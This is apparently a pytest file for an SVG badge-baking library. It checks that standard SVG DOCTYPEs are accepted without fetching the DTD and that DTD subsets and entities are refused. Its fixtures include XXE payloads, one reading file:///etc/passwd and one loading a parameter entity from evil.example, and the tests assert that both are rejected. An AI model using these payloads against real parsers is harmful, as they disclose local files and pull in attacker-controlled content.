"""SVG 1.1 with the standard <!DOCTYPE>: accepted, with no DTD loaded and no entity expanded."""

from __future__ import annotations

import pytest

from mcbadge.bake import bake_svg, unbake, unbake_svg
from mcbadge.errors import BakingError
from mcbadge.verify import verify
from tests.unit.test_verify import clock, ob3_credential, sign

SVG_11 = (
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    '<circle cx="5" cy="5" r="4"/></svg>'
)
SVG_10 = SVG_11.replace(
    '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"',
    '"-//W3C//DTD SVG 20010904//EN" "http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd"',
)


@pytest.mark.parametrize("svg", [SVG_11, SVG_10], ids=["svg-1.1", "svg-1.0"])
def test_standard_svg_doctype_bakes_unbakes_and_verifies(svg: str) -> None:
    signed = sign(ob3_credential())
    baked = bake_svg(svg, signed)
    assert baked.startswith(svg[: svg.index("<svg")])  # the DOCTYPE is kept as it was
    assert unbake_svg(baked) == signed
    assert unbake(baked.encode("utf-8")) == signed
    assert verify(baked.encode("utf-8"), clock=clock).issuer_id == signed["issuer"]["id"]


def _code(svg: str) -> str:
    with pytest.raises(BakingError) as caught:
        unbake_svg(svg)
    return caught.value.code


REFUSED = {
    # an internal subset can declare entities: refused even when it declares none
    "empty-internal-subset": '<!DOCTYPE svg [ ]><svg xmlns="http://www.w3.org/2000/svg"/>',
    "internal-subset-with-public-id": (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://x.example/svg11.dtd" '
        '[<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
    ),
    "external-entity": (
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
    ),
    "parameter-entity": (
        '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>'
        '<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "notation": (
        '<!DOCTYPE svg [<!NOTATION gif SYSTEM "image/gif">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "not-an-svg-doctype": (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
}


@pytest.mark.parametrize("svg", REFUSED.values(), ids=REFUSED.keys())
def test_dtd_subsets_and_entity_declarations_stay_refused(svg: str) -> None:
    assert _code(svg) == "svg_dtd_forbidden"
    with pytest.raises(BakingError):
        bake_svg(svg, {"name": "x"})


def test_an_entity_the_external_dtd_would_define_is_refused_not_dropped() -> None:
    # With an external DTD, expat would skip &nbsp; silently: the text would change.
    svg = SVG_11.replace("<circle", "<text>a&nbsp;b</text><circle")
    assert _code(svg) == "svg_entity_forbidden"


def test_the_external_dtd_is_never_fetched() -> None:
    # A DTD URL nobody can reach (and a file that does not exist): parsing does not try.
    svg = SVG_11.replace(
        "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd", "file:///nonexistent/evil.dtd"
    )
    baked = bake_svg(svg, {"name": "x"})
    assert unbake_svg(baked) == {"name": "x"}
